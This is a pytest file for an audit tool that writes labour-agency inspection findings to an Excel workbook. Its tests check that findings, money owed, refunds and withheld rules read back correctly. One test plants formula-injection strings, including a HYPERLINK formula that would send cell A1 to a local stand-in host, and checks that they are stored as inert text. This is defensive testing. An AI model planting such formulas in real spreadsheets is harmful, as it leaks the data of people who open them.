"""The findings workbook reads back as the result, and no text in it is ever a formula."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from auditor.pipeline import inspect_records
from auditor.render import Copy, render_xlsx
from tests.builders import Book, as_data
from tests.render.conftest import PROBLEMS, SAMPLES, inspection_of

Write = Callable[..., Path]


def _rows(data: bytes, sheet: str) -> list[dict[str, object]]:
    book = load_workbook(io.BytesIO(data))
    header, *rows = book[sheet].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]  # type: ignore[arg-type]


def test_the_workbook_reads_back_with_the_same_findings_money_and_scores() -> None:
    inspection = inspection_of(PROBLEMS)
    result = inspection.result
    data = render_xlsx(inspection)
    assert load_workbook(io.BytesIO(data)).sheetnames == [
        "Summary", "Findings", "Evidence", "Money owed", "Refunded", "Scoring", "Data gaps",
        "Warnings",
    ]  # fmt: skip
    findings = _rows(data, "Findings")
    assert [(r["rule_id"], r["subject_id"]) for r in findings] == [
        (f.rule_id, f.subject.id) for f in result.findings
    ]
    owed = {f.rule_id + f.subject.id: f.amount_owed for f in result.findings}
    for row in findings:
        expected = owed[f"{row['rule_id']}{row['subject_id']}"]
        assert row["amount_owed"] == (float(expected) if expected is not None else None)
    evidence = _rows(data, "Evidence")
    assert [(r["rule_id"], r["subject_id"], f"{r['sheet']}!{r['cell']}") for r in evidence] == [
        (f.rule_id, f.subject.id, e.where) for f in result.findings for e in f.evidence
    ]
    money = _rows(data, "Money owed")
    paid = {r["worker_id"]: Decimal(str(r["amount_owed"])) for r in money if r["status"] == "owed"}
    assert paid == result.money_owed.by_worker
    assert [r["fee_cell"] for r in money if r["status"] == "undetermined"] == ["Fees!E91"]
    scoring = _rows(data, "Scoring")
    assert [(r["rule_id"], r["affected"], Decimal(str(r["points"]))) for r in scoring] == [
        (r.rule_id, r.affected, r.points) for r in result.rules
    ]
    summary = {r["field"]: r["value"] for r in _rows(data, "Summary")}
    assert summary["money_owed_total"] == 1722.5
    assert summary["rating"] == "critical"
    assert len(_rows(data, "Data gaps")) == len(result.data_gaps)


def test_the_money_refunded_reads_back_worker_by_worker() -> None:
    """The follow-up sample's refunds (workbook 1.1): the sheet and the summary, as the result."""
    inspection = inspect_records(SAMPLES / "agency-follow-up.xlsx")
    refunded = inspection.result.money_owed.refunded
    assert refunded.by_worker  # the sample records refunds
    data = render_xlsx(inspection)
    rows = _rows(data, "Refunded")
    assert {r["worker_id"]: Decimal(str(r["amount_refunded"])) for r in rows} == refunded.by_worker
    assert [r["worker_id"] for r in rows] == list(refunded.by_worker)
    assert {r["currency"] for r in rows} == {inspection.result.currency}
    summary = {r["field"]: r["value"] for r in _rows(data, "Summary")}
    assert Decimal(str(summary["money_refunded_total"])) == refunded.total
    assert summary["workers_refunded"] == len(refunded.by_worker)
    # none recorded: the sheet is there, with its header only
    assert _rows(render_xlsx(inspection_of(PROBLEMS)), "Refunded") == []


def test_formula_like_text_is_written_as_inert_text(book: Book) -> None:
    hostile = {
        "agency_name": '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"open")',
        "worker_id": "+1-2",
        "inspector": "@SUM(A1:A9)",
    }
    book["Audit"]["agency_name"] = hostile["agency_name"]
    book["Audit"]["inspector"] = hostile["inspector"]
    book["Workers"][0]["worker_id"] = hostile["worker_id"]
    book["Workers"][0]["passport_held_by"] = "employer"
    for row in book["Contracts"] + book["Fees"]:
        if row["worker_id"] == "W1":
            row["worker_id"] = hostile["worker_id"]
    book["Workers"][1]["worker_id"] = "-W2"
    book["Workers"][1]["passport_held_by"] = "agency"
    for row in book["Contracts"] + book["Fees"]:
        if row["worker_id"] == "W2":
            row["worker_id"] = "-W2"
    # as dicts: a workbook cell holding "=..." would be a formula, refused at ingestion
    data = render_xlsx(inspect_records(as_data(book)))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
                assert b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(data))
    seen = {}
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s", cell.coordinate
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen[cell.value] = sheet.title
    assert set(seen) == {*hostile.values(), "-W2"}


def test_the_same_inspection_gives_the_same_bytes_and_the_agency_copy_withholds() -> None:
    inspection = inspection_of(PROBLEMS)
    assert render_xlsx(inspection) == render_xlsx(inspection)
    agency = render_xlsx(inspection, Copy.AGENCY)
    rules = {r["rule_id"] for r in _rows(agency, "Findings")}
    assert not rules & {"COMP-06", "COMP-07", "COMP-08", "FL-01"}
    assert "K01" not in {r["subject_id"] for r in _rows(agency, "Evidence")}
    summary = {r["field"]: r["value"] for r in _rows(agency, "Summary")}
    assert summary["withheld_rules"] == "COMP-06, COMP-07, COMP-08, FL-01"
